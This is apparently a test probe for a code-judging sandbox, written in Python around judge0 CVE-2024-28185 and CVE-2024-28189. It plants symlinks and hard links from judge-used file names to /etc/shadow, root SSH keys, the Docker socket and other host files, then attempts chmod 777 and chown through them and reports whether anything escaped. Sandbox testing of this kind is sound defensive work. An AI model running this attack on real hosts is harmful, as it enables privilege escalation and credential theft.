# what: leaves links to host files under names that a judge writes, chowns or reads: CVE-2024-28185, CVE-2024-28189 (judge0)
# expect: ACCEPTED
# copies: 2
import os

NAMES = """stdin stdout stderr run compile metadata meta.txt result result.json results.json output output.txt out.txt answer
program.py main.py solution.py script.py box tmp run.sh compile.sh a.out core cmd expected exitcode .exit report.xml
junit.xml stdin.txt stdout.txt stderr.txt log.txt judge checker cache __pycache__ .config .local .cache""".split()
TARGETS = ["/etc/passwd", "/etc/shadow", "/root/.ssh/authorized_keys", "/proc/1/mem", "/proc/self/fd/3", "/proc/1/root/etc/passwd",
           "/run/docker.sock", "/tmp/verifierd-canary", "../../../../../../etc/passwd", "/bin/run", "/sys/kernel/uevent_helper"]  # fmt: skip

escaped = []
if any(os.listdir(folder) for folder in ("/tmp", "/dev/shm")):
    escaped.append("something of another candidate")
for folder in ("/tmp", "/dev/shm", os.getcwd()):
    for number, name in enumerate(NAMES):
        path = os.path.join(folder, name)
        if not os.path.lexists(path):
            os.symlink(TARGETS[number % len(TARGETS)], path)
    for target in TARGETS:
        for follow in (True, False):
            try:
                os.link(target, f"{folder}/hard-{TARGETS.index(target)}-{follow}", follow_symlinks=follow)
                escaped.append(f"a hard link to {target}")
            except OSError:
                pass
    for path in (os.path.join(folder, name) for name in NAMES):
        for change in (lambda p: os.chmod(p, 0o777), lambda p: os.chown(p, os.getuid(), -1)):
            try:
                change(path)
                target = os.readlink(path)
                if not os.path.realpath(path).startswith(("/tmp", "/dev/shm", "/proc")):
                    escaped.append(f"changed {target}")
            except OSError:
                pass
print("ESCAPED: " + "; ".join(escaped) if escaped else "contained")
